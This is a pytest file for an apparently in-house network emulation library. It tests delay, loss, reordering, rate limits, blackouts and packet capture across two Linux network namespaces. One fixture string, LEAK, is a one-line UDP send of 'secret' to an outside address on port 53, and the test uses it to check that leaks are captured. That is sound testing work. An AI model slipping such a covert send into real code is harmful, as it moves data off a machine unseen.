"""Two network namespaces with a real TCP between them: what the link does to packets, and what a capture sees."""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import closing, suppress

import pytest

from nearfar.chaos.netns import DEVICE, UPPER, Capture, PacketLink, joined, why_not
from nearfar.chaos.profiles import Profile
from nearfar.chaos.schedule import Fault
from nearfar.errors import NearfarError, UsageError

WHY_NOT = why_not()
pytestmark = pytest.mark.skipif(WHY_NOT is not None, reason=str(WHY_NOT))

FAST = Profile("fast", 1e10, 0)
SOON = 20.0  # seconds after which a test gives up


@pytest.fixture
def link() -> Iterator[PacketLink]:
    with joined(FAST) as link:
        yield link


def echo_server(link: PacketLink) -> socket.socket:
    """Answers one connection within the namespace of the upper."""
    listener = link.upper.call(lambda: socket.create_server((UPPER, 0)))

    def serve() -> None:
        with suppress(OSError), listener.accept()[0] as sock:
            while data := sock.recv(1 << 16):
                sock.sendall(data)

    threading.Thread(target=serve, daemon=True).start()
    return listener


def dial(link: PacketLink, listener: socket.socket) -> socket.socket:
    sock = link.device.call(lambda: socket.create_connection(listener.getsockname(), timeout=SOON))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def ask(sock: socket.socket, data: bytes) -> bytes:
    """Send and read as many bytes back."""
    sender = threading.Thread(target=sock.sendall, args=(data,))
    sender.start()
    got = bytearray()
    while len(got) < len(data) and (part := sock.recv(1 << 16)):
        got += part
    sender.join()
    return bytes(got)


def test_an_answer_takes_a_round_trip_and_a_connect_another(link: PacketLink) -> None:
    with joined(Profile("slow", 1e9, 60)) as slow, closing(echo_server(slow)) as listener:
        began = time.monotonic()
        with closing(dial(slow, listener)) as sock:
            assert time.monotonic() - began >= 0.06
            began = time.monotonic()
            assert ask(sock, b"hello") == b"hello"
            assert time.monotonic() - began >= 0.06


def test_tcp_recovers_what_is_lost_and_sorts_what_is_overtaken() -> None:
    data = bytes(range(256)) * 1000
    with joined(Profile("bad", 1e9, 2, loss=0.05), seed=7, reorder=0.05) as link:
        with closing(echo_server(link)) as listener, closing(dial(link, listener)) as sock:
            assert ask(sock, data) == data
        counters = link.counters()
    assert counters.up.lost > 0
    assert counters.down.lost > 0
    assert counters.up.n_bytes > len(data)  # headers and retransmissions


def test_the_rate_is_that_of_the_profile() -> None:
    """Counted in bytes that have arrived, not in time: 1 Mbit/s lets at most 125 kB a second through."""
    with joined(Profile("thin", 1e6, 10)) as link, closing(echo_server(link)) as listener:
        with closing(dial(link, listener)) as sock:
            began = time.monotonic()
            ask(sock, bytes(50_000))
            seconds = time.monotonic() - began
        assert link.counters().up.n_bytes <= 125_000 * (seconds + 1)
        assert seconds >= 0.4


def test_a_blackout_loses_packets_and_the_connection_outlives_it(link: PacketLink) -> None:
    with closing(echo_server(link)) as listener, closing(dial(link, listener)) as sock:
        ask(sock, b"hello")
        began = time.monotonic()
        link.inject(Fault(0, "blackout", 0.5))
        assert ask(sock, b"still here") == b"still here"
        assert time.monotonic() - began >= 0.5
    counters = link.counters()
    assert counters.up.lost >= 1
    assert counters.faults == {"blackout": 1}


def test_the_capture_sees_nothing_in_silence_and_every_packet_of_a_conversation(link: PacketLink) -> None:
    with closing(Capture(link.device)) as capture:
        time.sleep(0.3)
        assert capture.packets() == []
        with closing(echo_server(link)) as listener, closing(dial(link, listener)) as sock:
            ask(sock, b"hello")
        seen = capture.packets()
    assert {p.interface for p in seen} == {"link"}
    assert {p.to for p in seen if p.is_outgoing} == {UPPER}
    assert {p.to for p in seen if not p.is_outgoing} == {DEVICE}
    assert sum(p.is_outgoing for p in seen) >= 4  # SYN, ACK, hello, FIN


LEAK = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('198.51.100.7', 53))"
TALK_TO_ONESELF = """
import socket
with socket.create_server(("127.0.0.1", 0)) as s:
    socket.create_connection(s.getsockname()).close()
"""


@pytest.mark.parametrize(
    ("code", "interfaces", "targets"),
    [
        ("sum(range(10))", set(), set()),
        (LEAK, {"link"}, {"198.51.100.7"}),
        (TALK_TO_ONESELF, {"lo"}, {"127.0.0.1"}),
    ],
    ids=["silent", "leaks", "loopback"],
)
def test_whatever_a_process_sends_is_seen_wherever_it_wants_to_go(
    link: PacketLink, code: str, interfaces: set[str], targets: set[str]
) -> None:
    with closing(Capture(link.device)) as capture:
        process = link.device.start([sys.executable, "-c", code], stderr=subprocess.PIPE)
        assert process.communicate(timeout=SOON)[1] == ""
        seen = capture.packets()
    assert {p.interface for p in seen} == interfaces
    assert {p.to for p in seen} == targets


def test_a_namespace_knows_no_interface_but_its_own(link: PacketLink) -> None:
    assert [name for _, name in link.device.call(socket.if_nameindex)] == ["lo", "link"]
    assert len(socket.if_nameindex()) >= 1
    assert "link" not in [name for _, name in socket.if_nameindex()]


def test_two_links_do_not_see_each_other(link: PacketLink) -> None:
    with joined(FAST) as other, closing(Capture(other.device)) as capture:
        with closing(echo_server(link)) as listener, closing(dial(link, listener)) as sock:
            ask(sock, b"hello")
        assert capture.packets() == []
        assert other.counters().up.pieces == 0


def test_the_forwarder_ends_with_the_block_and_faults_of_streams_are_refused(link: PacketLink) -> None:
    with pytest.raises(UsageError, match="blackout, stall"):
        link.inject(Fault(0, "reset"))
    with joined(FAST) as other:
        pass
    with pytest.raises(NearfarError, match="gone"):
        other.counters()
